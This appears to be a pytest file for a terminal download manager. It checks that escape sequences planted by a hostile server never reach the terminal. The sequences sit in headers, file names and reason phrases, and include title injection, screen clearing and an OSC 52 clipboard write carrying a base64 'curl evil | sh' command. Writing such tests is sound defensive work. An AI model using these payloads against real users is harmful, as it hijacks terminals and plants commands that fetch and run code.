"""A hostile server's text never reaches the terminal as control sequences (issue 10
point 2), checked in the raw output of the real TUI in a pty.

The server puts escapes in every header and name the UI shows: the URL's file name,
Content-Disposition, ETag and Last-Modified (the details screen), a reason phrase (the
failure line, the log). The sequences a server would want are OSC 0/2 (the window
title), OSC 52 (the clipboard: `curl … | sh`) and CSI 2J (clear the screen). The TUI's
own escapes are fine: it only ever sends OSC 8 (links) and OSC 22 (pointer shape).
"""

from __future__ import annotations

import json
import re
import time
from pathlib import Path

import pytest

from tests.cli_helpers import MiB
from tests.conftest import payload
from tests.daemon_helpers import rangetui
from tests.faultserver import FaultServer
from tests.pty_helpers import poll_until
from tests.raw_pty import RawTui, assert_terminal_restored, osc_numbers

pytestmark = pytest.mark.timeout(120)

OWN_OSC = re.compile(rb"\x1b\](?:8|22);[^\x07\x1b]*(?:\x07|\x1b\\)")
CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # "curl evil | sh"
TITLE = "\x1b]0;PWNED-TITLE\x07\x1b]2;PWNED-TITLE\x07"
CLEAR = "\x1b[2JCLEARED\x1b[H"
INJECTED = [b"\x1b]52;", b"\x1b]0;PWNED", b"\x1b]2;PWNED", b"\x1b[2JCLEARED", b"\x9b", b"\x9d"]
SHOWN = 30.0


def all_ended(count: int) -> bool:
    jobs = json.loads(rangetui("ls", "--json").stdout or "[]")
    return len(jobs) == count and all(j["status"] in ("done", "failed") for j in jobs)


def screen(tui: RawTui) -> str:
    return tui.drain.text(400)


def test_server_text_in_every_field_reaches_the_terminal_inert(
    server: FaultServer, downloads: Path
) -> None:
    named = server.add(
        "/named.bin",
        payload(MiB, seed=80),
        etag=f'"{CLIPBOARD}"',
        last_modified=f"{CLEAR}PWNED-LM{TITLE}",
        content_disposition=f'attachment; filename="{TITLE}cd-name.bin"',
    )
    from_url = server.add(
        "/%1B%5D0%3BPWNED-URL%07%1B%5B2Jurl-name.bin",
        payload(MiB, seed=81),
        rate=256 * 1024,
        etag=f'"{TITLE}"',
    )
    refused = server.add(
        "/refused.bin", b"", status=403, reason=f"Forbidden{TITLE}{CLEAR}PWNED-REASON{CLIPBOARD}"
    )
    tui = RawTui.start_raw([named, from_url, refused, "-d", str(downloads)], cwd=downloads)
    try:
        poll_until(lambda: all_ended(3), SHOWN, "every job ended", tui)
        time.sleep(
            0.6
        )  # the screen catches up (it sends only changed cells: no phrase to wait for)
        tui.type(b"g")  # the first job: the cursor starts on one still going, if any was
        time.sleep(0.3)
        for shows in ("cd-name.bin", "url-name.bin", "PWNED-REASON"):  # each job's details
            tui.type(b"\r")
            poll_until(lambda s=shows: s in screen(tui), SHOWN, f"{shows} in the details", tui)
            time.sleep(0.3)
            tui.type(b"\x1b")
            time.sleep(0.3)
            tui.type(b"j")
        tui.type(b"l")
        poll_until(lambda: "PWNED-REASON" in screen(tui), SHOWN, "the log", tui)
        time.sleep(0.5)
        tui.type(b"\x1b")
        time.sleep(0.3)
        tui.type(b"q")
        tui.proc.wait(20)
    finally:
        tui.close()
    raw = tui.raw
    assert tui.proc.returncode == 0, tui.describe()
    for shown in (b"PWNED-LM", b"PWNED-URL", b"Y3VybCBldmlsIHwgc2g=", b"PWNED-REASON"):
        assert shown in raw, f"{shown!r} was never shown: the test did not look at it"
    assert osc_numbers(raw) <= {b"8", b"22"}, f"OSC sequences sent: {osc_numbers(raw)}"
    for sequence in INJECTED:
        assert sequence not in raw, f"{sequence!r} reached the terminal"
    assert b"\x07" not in OWN_OSC.sub(b"", raw), "a BEL from the server reached the terminal"
    text = raw.decode("utf-8", "replace")
    assert not {"\x9b", "\x9d", "\u202e"} & set(text), "a C1 control or bidi override got out"
    assert_terminal_restored(raw)
